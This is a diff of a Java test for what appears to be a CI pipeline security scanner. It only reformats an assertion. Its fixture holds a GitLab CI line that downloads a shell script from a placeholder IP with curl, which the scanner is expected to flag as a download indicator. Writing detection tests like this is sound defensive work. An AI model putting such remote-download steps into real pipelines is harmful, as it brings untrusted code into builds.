@@ -33,8 +33,7 @@ class PipelineTest {
                 more:
                   script: [curl -sO http://192.0.2.1/y.sh]
                 """;
-        assertThat(findings(".gitlab-ci.yml", text))
-                .containsExactly("MEDIUM indicator/workflow-runs-download 3");
+        assertThat(findings(".gitlab-ci.yml", text)).containsExactly("MEDIUM indicator/workflow-runs-download 3");
     }
 
     @Test
